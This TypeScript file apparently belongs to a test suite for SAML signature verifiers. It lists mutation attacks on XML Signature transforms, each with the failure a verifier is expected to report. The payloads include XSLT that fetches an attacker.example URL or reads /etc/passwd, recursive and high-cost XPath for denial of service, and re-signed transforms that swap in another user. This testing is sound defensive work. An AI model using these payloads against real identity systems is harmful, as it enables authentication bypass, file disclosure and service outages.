import {
  EVIL_USER,
  elementOf,
  promote,
  replace,
  responseOf,
  withoutResponseSignature,
} from '../../../src/core/mutations/attacks/edit.ts'
import { ASSERTION_INVALID, RESPONSE_INVALID, STRUCTURE } from '../../../src/core/mutations/attacks/findings.ts'
import { type Attack, ENTRA_CLAIMS } from './attack.ts'
import { smuggle, withTransforms } from './edit-signature.ts'
import { digestOf, resign, resignInfo } from './resign.ts'
import { stylesheet, XSLT } from './transform-method.ts'

const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature'
const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const INCLUSIVE = 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315'
const XPATH = 'http://www.w3.org/TR/1999/REC-xpath-19991116'

const SMUGGLED: [name: string, base: string, what: string, algorithm: string, content: (prefix: string) => string][] = [
  [
    'xslt-with-document',
    'simplesamlphp/base-sp-redirect',
    'An XSLT transform fetches a URL of the attacker.',
    XSLT,
    () => stylesheet(`<xsl:copy-of select="document('http://attacker.example/x.xml')"/>`),
  ],
  [
    'xslt-with-file',
    'node-samlp/base-sp-redirect',
    'An XSLT transform reads a file of the verifier.',
    XSLT,
    () => stylesheet(`<xsl:copy-of select="document('file:///etc/passwd')"/>`),
  ],
  [
    'xslt-without-end',
    'salesforce/both',
    'An XSLT transform calls itself for ever.',
    XSLT,
    () => stylesheet('<xsl:apply-templates select="/"/>'),
  ],
  [
    'xpath-filter',
    'simplesamlphp/base-sp-post',
    'An XPath filter subtracts what was changed.',
    'http://www.w3.org/2002/06/xmldsig-filter2',
    () =>
      `<f:XPath xmlns:f="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//*[local-name()='NameID']</f:XPath>`,
  ],
  [
    'xpath-of-high-cost',
    'node-samlp/base-sp-post',
    'An XPath transform counts all nodes for each pair of nodes.',
    XPATH,
    (prefix) => `<${prefix}XPath>count(//*[count(//*[count(//*) > 0]) > 0]) > 0</${prefix}XPath>`,
  ],
  [
    'decryption',
    'salesforce/usual',
    'A decryption transform would have the verifier decrypt what the attacker chose.',
    'http://www.w3.org/2002/07/decrypt#XML',
    () => '<d:Except xmlns:d="http://www.w3.org/2002/07/decrypt#" URI="#_x"/>',
  ],
  [
    'unknown',
    'simplesamlphp/user-bob-sp-redirect',
    'A transform that nobody knows might be passed over.',
    'urn:attacker:transform',
    () => '',
  ],
  ['empty', 'node-samlp/user-bob-sp-redirect', 'A transform has an empty name.', '', () => ''],
]

/** What stands in Transforms, from prefix and the two genuine ones. */
type Write = (prefix: string, genuine: string[]) => string

const one = (prefix: string, algorithm: string) => `<${prefix}Transform Algorithm="${algorithm}"/>`

const LISTS: [name: string, base: string, what: string, write: Write][] = [
  [
    'enveloped-twice',
    'simplesamlphp/base-sp-redirect',
    'Enveloped-signature stands there twice, to take a second signature out as well.',
    (_, [enveloped = '', exclusive = '']) => enveloped + enveloped + exclusive,
  ],
  [
    'enveloped-instead-of-canonicalisation',
    'node-samlp/base-sp-redirect',
    'Enveloped-signature stands where the canonicalisation belongs.',
    (_, [enveloped = '']) => enveloped + enveloped,
  ],
  [
    'enveloped-in-other-case',
    'salesforce/both',
    'The name of enveloped-signature is written in capitals.',
    (prefix, [, exclusive = '']) => one(prefix, ENVELOPED.toUpperCase()) + exclusive,
  ],
  [
    'canonicalisation-around-enveloped',
    'simplesamlphp/base-sp-post',
    'A canonicalisation stands on either side of enveloped-signature, which then finds nothing to take out.',
    (_, [enveloped = '', exclusive = '']) => exclusive + enveloped + exclusive,
  ],
  [
    'canonicalisations',
    'node-samlp/base-sp-post',
    'A second canonicalisation of another kind follows the first.',
    (prefix, genuine) => genuine.join('') + one(prefix, INCLUSIVE),
  ],
  [
    'canonicalisation-in-other-case',
    'salesforce/usual',
    'The name of the canonicalisation is written in capitals.',
    (prefix, [enveloped = '']) => enveloped + one(prefix, EXCLUSIVE.toUpperCase()),
  ],
  [
    'enveloped-with-parameters',
    'simplesamlphp/user-bob-idp-initiated',
    'Enveloped-signature gets an XPath as parameter.',
    (prefix, [, exclusive = '']) =>
      `<${prefix}Transform Algorithm="${ENVELOPED}"><${prefix}XPath>true()</${prefix}XPath></${prefix}Transform>${exclusive}`,
  ],
  [
    'canonicalisation-with-parameters',
    'node-samlp/user-bob-idp-initiated',
    'The canonicalisation gets an XPath as parameter.',
    (prefix, [enveloped = '']) =>
      `${enveloped}<${prefix}Transform Algorithm="${EXCLUSIVE}"><${prefix}XPath>true()</${prefix}XPath></${prefix}Transform>`,
  ],
]

const prefixes = (list: string, namespace = EXCLUSIVE) =>
  `<ec:InclusiveNamespaces xmlns:ec="${namespace}" PrefixList="${list}"/>`

/** The canonicalisation of the reference with other content. */
const withParameters = (xml: string, content: string, algorithm = EXCLUSIVE) =>
  withTransforms(
    xml,
    (prefix, [enveloped = '']) =>
      `${enveloped}<${prefix}Transform Algorithm="${algorithm}">${content}</${prefix}Transform>`,
  )

const MANY_PREFIXES = Array.from({ length: 5_000 }, (_, index) => `p${index.toString(36)}`).join(' ')

const PARAMETERS: [
  name: string,
  base: string,
  what: string,
  content: string,
  expectFail: string,
  algorithm?: string,
][] = [
  [
    'prefixes-without-end',
    'simplesamlphp/base-sp-redirect',
    'The PrefixList names five thousand prefixes, each of which is looked for at every element.',
    prefixes(MANY_PREFIXES),
    STRUCTURE,
  ],
  [
    'prefixes-of-another-namespace',
    'node-samlp/base-sp-redirect',
    'The PrefixList is in a namespace of the attacker, where some read it and some do not.',
    prefixes('saml', 'urn:attacker'),
    STRUCTURE,
  ],
  [
    'prefix-lists',
    'salesforce/both',
    'A second PrefixList follows the first.',
    prefixes('ds saml samlp') + prefixes('evil'),
    STRUCTURE,
  ],
  [
    'prefixes-with-content',
    'simplesamlphp/base-sp-post',
    'The PrefixList holds an element.',
    `<ec:InclusiveNamespaces xmlns:ec="${EXCLUSIVE}" PrefixList="saml"><ec:x/></ec:InclusiveNamespaces>`,
    STRUCTURE,
  ],
  [
    'prefixes-of-inclusive-canonicalisation',
    'node-samlp/base-sp-post',
    'Inclusive canonicalisation gets a PrefixList, which it does not have.',
    prefixes('saml'),
    STRUCTURE,
    INCLUSIVE,
  ],
  [
    'prefix-added',
    'salesforce/usual',
    'The default namespace is added to the PrefixList.',
    prefixes('#default ds saml samlp'),
    RESPONSE_INVALID,
  ],
  [
    'prefix-repeated',
    'salesforce/unsolicited',
    'Each prefix stands in the PrefixList twice.',
    prefixes('ds ds saml saml samlp samlp'),
    RESPONSE_INVALID,
  ],
  [
    'prefixes-that-are-no-names',
    'simplesamlphp/sha512-sp-redirect',
    'The PrefixList names what cannot be a prefix.',
    prefixes('&lt;evil&gt; a:b #x * &#x1F600; xmlns xml'),
    RESPONSE_INVALID,
  ],
]

const SIGNED: Omit<Attack, 'class'>[] = [
  {
    name: 'xpath-of-the-assertion',
    base: 'entra/assertion',
    what: 'An XPath transform in the signature of the assertion leaves its NameID out.',
    policy: 'assertion',
    mutate: (xml) =>
      smuggle(promote(xml), XPATH, (prefix) => `<${prefix}XPath>not(ancestor-or-self::NameID)</${prefix}XPath>`),
    expectFail: [ENTRA_CLAIMS, STRUCTURE],
  },
  {
    name: 'xpath-signed',
    base: 'simplesamlphp/base-sp-redirect',
    what: 'A key that is trusted signed an XPath transform that leaves the NameID out, which was changed afterwards.',
    resigned: true,
    mutate: (xml) => {
      const path = `<ds:Transform Algorithm="${XPATH}"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>`
      const signed = resignInfo(resign(xml), (info) => replace(info, '</ds:Transforms>', `${path}</ds:Transforms>`))
      return replace(signed, /(?<=NameID[^>]*>)[^<]*/, EVIL_USER)
    },
    expectFail: [STRUCTURE],
  },
  {
    name: 'base64-signed',
    base: 'node-samlp/base-sp-redirect',
    what: 'A key that is trusted signed a base64 transform: the digest is that of the decoded text, markup ignored.',
    resigned: true,
    mutate: (xml) => {
      const signed = resign(xml)
      const text = withoutResponseSignature(responseOf(signed)).replace(/<[^>]*>/g, '')
      return resignInfo(signed, (info) =>
        replace(
          replace(info, /(?<=DigestValue>)[^<]*/, digestOf(text)),
          /(?<=Transform Algorithm=")[^"]*c14n#/,
          'http://www.w3.org/2000/09/xmldsig#base64',
        ),
      )
    },
    expectFail: [STRUCTURE],
  },
  {
    name: 'canonicalisation-changed-signed',
    base: 'salesforce/both',
    what: 'A key that is trusted signed another canonicalisation than the one whose digest it signed.',
    resigned: true,
    mutate: (xml) =>
      resignInfo(resign(xml), (info) => replace(info, /(?<=Transform Algorithm=")[^"]*c14n#/, INCLUSIVE)),
    expectFail: [RESPONSE_INVALID],
  },
  {
    name: 'prefix-list-of-the-assertion-added',
    base: 'simplesamlphp/sign-assertion-sp-redirect',
    what: 'A PrefixList is added to the signature of the assertion, so that other namespaces count.',
    policy: 'assertion',
    mutate: (xml) =>
      replace(xml, elementOf(xml, 'Transforms'), elementOf(withParameters(xml, prefixes('xs xsi')), 'Transforms')),
    expectFail: [ASSERTION_INVALID],
  },
]

const TABLE: Omit<Attack, 'class'>[] = [
  ...SMUGGLED.map(([name, base, what, algorithm, content]) => ({
    name,
    base,
    what,
    mutate: (xml: string) => smuggle(promote(xml), algorithm, content),
    expectFail: [STRUCTURE],
  })),
  ...LISTS.map(([name, base, what, write]) => ({
    name,
    base,
    what,
    mutate: (xml: string) => withTransforms(xml, write),
    expectFail: [STRUCTURE],
  })),
  ...PARAMETERS.map(([name, base, what, content, expected, algorithm]) => ({
    name,
    base,
    what,
    mutate: (xml: string) => withParameters(xml, content, algorithm),
    expectFail: [expected],
  })),
  ...SIGNED,
]

/** Transforms, canonicalisations and their parameters that SAML's profile of XML Signature does not have. */
export const TRANSFORM: Attack[] = TABLE.map((attack) => ({ ...attack, class: 'transform' }))
